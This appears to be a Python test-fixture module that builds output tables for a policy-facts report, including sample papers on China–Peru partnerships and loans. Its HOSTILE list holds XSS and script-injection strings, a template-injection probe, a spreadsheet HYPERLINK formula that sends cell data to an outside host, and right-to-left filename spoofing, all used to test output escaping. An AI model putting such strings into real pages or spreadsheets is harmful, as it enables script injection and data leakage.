"""Output folders made for tests of the report: real papers with facts whose words are known, and hostile tables."""

from __future__ import annotations

import hashlib
from pathlib import Path

from policyfacts.batch.options import Options
from policyfacts.batch.papers import collect
from policyfacts.batch.run import extract_into
from policyfacts.reading import read
from policyfacts.records import Mention
from policyfacts.schema import FACT_TABLES, TABLES
from policyfacts.tables import paper_rows, write_tables
from policyfacts.tables.cells import Row
from policyfacts.tables.rows import PaperRows
from policyfacts.values.countries import codes
from tests.builders import fact_of
from tests.typeset import typeset

TITLE = "In May 2017 China and Peru established a strategic partnership in Lima."
RAISED = "China and Peru upgraded it to a comprehensive strategic partnership in June 2019."
RIVAL = "China and Peru established a strategic partnership in March 2013."
LOAN = "China lent Peru USD 2 billion in 2018 for a port."
GRANT = "Japan gave Ghana USD 50 million in 2020."
OTHER = "In 2011 China and Chile established a strategic partnership."
FILL = "#lorem(120)"


def made(folder: Path) -> Path:
    """Two papers, three pages, seven facts; the papers differ on a date. Returns the output folder."""
    one = typeset(
        folder / "one.pdf",
        f"{FILL} {TITLE} {FILL}",
        f"{FILL} {LOAN} {RAISED}",
        setup="#set page(columns: 2)\n#set par(justify: true)\n",
    )
    two = typeset(folder / "two.pdf", f"{RIVAL} {GRANT} {OTHER}", setup="#set page(flipped: true)\n")
    write_tables(folder / "out", [_one(one), _two(two)], run={})
    return folder / "out"


def _partnership(paper, quote: str, *, words: str, when: tuple[str, str], country: tuple[str, str] = ("PER", "Peru")):  # type: ignore[no-untyped-def]
    level = words.rpartition(" ")[0].replace(" ", "-")
    status = ("upgraded", "upgraded") if "upgraded" in quote else ("established", "established")
    return fact_of(
        paper,
        "partnerships",
        quote,
        {
            "country": country,
            "counterparty": ("CHN", "China"),
            "level": (level, words),
            "level_text": (words, words),
            "date": when,
            "status": status,
        },
    )


def _one(path: Path) -> PaperRows:
    paper = read(path)
    facts = [
        _partnership(paper, TITLE, words="strategic partnership", when=("2017-05", "May 2017")),
        _partnership(paper, RAISED, words="comprehensive strategic partnership", when=("2019-06", "June 2019")),
        fact_of(
            paper,
            "funds",
            LOAN,
            {
                "name": ("port", "port"),
                "kind": ("loan", "lent"),
                "amount": (2_000_000_000, "USD 2 billion"),
                "currency": ("USD", "USD"),
                "date": ("2018", "2018"),
                "event": ("disbursed", "lent"),
                "providers": ("CHN", "China"),
                "recipients": ("PER", "Peru"),
            },
        ),
    ]
    start = paper.text.index("May 2017")
    dates = [Mention("date", start, start + 8, "May 2017", "2017-05")]
    return paper_rows(paper, dates, facts)


def _two(path: Path) -> PaperRows:
    paper = read(path)
    facts = [
        _partnership(paper, RIVAL, words="strategic partnership", when=("2013-03", "March 2013")),
        _partnership(paper, OTHER, words="strategic partnership", when=("2011", "2011"), country=("CHL", "Chile")),
        fact_of(
            paper,
            "funds",
            GRANT,
            {
                "name": ("grant", "gave"),
                "kind": ("grant", "gave"),
                "amount": (50_000_000, "USD 50 million"),
                "currency": ("USD", "USD"),
                "date": ("2020", "2020"),
                "event": ("disbursed", "gave"),
                "providers": ("JPN", "Japan"),
                "recipients": ("GHA", "Ghana"),
            },
        ),
    ]
    return paper_rows(paper, [], facts)


HOSTILE = (
    "</script><script>window.struck = 1</script>",
    "<img src=x onerror='window.struck = 2'>",
    "<!--<script>",
    "{{ 7 * 7 }}",
    '=HYPERLINK("https://example.org/?"&A1)',
    "javascript:window.struck=3",
    "\x00\x07\x1b[31mred\x7f",
    "abc\u202egnp.exe\u2066",
    "\u2028\u2029",
    "'\"><svg onload=window.struck=4>",
    "]]>&lt;b&gt;",
    "x" * 1_000_000,
)


def hostile(folder: Path) -> Path:
    """Tables in which every text is an attack; no paper is there to be pictured."""
    rows: dict[str, list[Row]] = {name: [] for name in TABLES}
    doc = "paper\u202efdp'\"><img src=x onerror=window.struck=5>"
    for number, text in enumerate(HOSTILE):
        for table in FACT_TABLES:
            fact_id = f"{doc}:{table}:{number}"
            row = {name: text for name in TABLES[table].names if not TABLES[table].column(name).vocabulary}
            row |= {column.name: "" for column in TABLES[table].columns if column.kind in {"integer", "number"}}
            row |= {"doc": doc, "page": "1", "fact_id": fact_id, "certainty": "asserted"}
            rows[table].append({name: row.get(name, "") for name in TABLES[table].names})
            place = {"page": "1", "start": "0", "end": "1", "text": text, "x0": "1e9", "y0": "-5", "x1": "", "y1": "7"}
            rows["evidence"].append({"fact_id": fact_id, "slot": text[:40], **place})
        rows["ledger"].append(
            {"doc": doc, "page": "1", "region": text, "characters": "3", "outcome": "left out", "reason": text}
        )
    rows["documents"].append(
        {
            **dict.fromkeys(TABLES["documents"].names, HOSTILE[0]),
            "doc": doc,
            "path": "../no such file.pdf",
            "sha256": hashlib.sha256(b"").hexdigest(),
            "pages": "1",
            "status": "read",
        }
    )
    write_tables(folder / "out", [PaperRows(doc, rows, "x")], run={})
    return folder / "out"


def many(folder: Path, count: int) -> Path:
    """One paper with ``count`` partnerships, up to 60,000 of different pairs of countries; nothing to picture."""
    names = codes()
    rows: dict[str, list[Row]] = {name: [] for name in TABLES}
    for number in range(count):
        rows["partnerships"].append(
            {
                **dict.fromkeys(TABLES["partnerships"].names, ""),
                "doc": "paper",
                "page": str(1 + number % 300),
                "country": names[number % len(names)],
                "counterparty": names[number // len(names)],
                "level": f"level-{number % 7}",
                "date": str(1990 + number % 35),
                "status": "established",
                "confidence": f"{(number * 7919 % 1000) / 1000:.3f}",
                "fact_id": f"paper:partnerships:{number:x}",
                "rule": "test",
                "certainty": "asserted",
                "quote": f"China and country {number} established a partnership.",
            }
        )
    rows["documents"].append(
        {**dict.fromkeys(TABLES["documents"].names, ""), "doc": "paper", "path": "paper.pdf", "status": "read"}
    )
    write_tables(folder / "out", [PaperRows("paper", rows, "x")], run={})
    return folder / "out"


ANGOLA = "In May 2016 China lent Angola USD 690 million for a hydropower dam."
FORUM = "A forum met in Santiago."


def shelf(folder: Path) -> Path:
    """One paper, read from its PDF: two pages, a running head, a table of loans; Angola and Santiago."""
    table = (
        "#figure(table(columns: 2, table.header([Country], [Loans (USD million)]), [Angola], [690], [Zambia], [410]),"
        " caption: [Loans signed in 2016])"
    )
    typeset(
        folder / "papers" / "angola.pdf",
        f"{ANGOLA}\n\n{FORUM}\n\n{table}\n\n#lorem(80)",
        f"China and Angola established a strategic partnership in November 2010.\n\n{FILL}",
        setup="#set page(header: [The Loans Review])\n",
    )
    extract_into(folder / "out", collect([folder / "papers"]), options=Options(rules_only=True))
    return folder / "out"
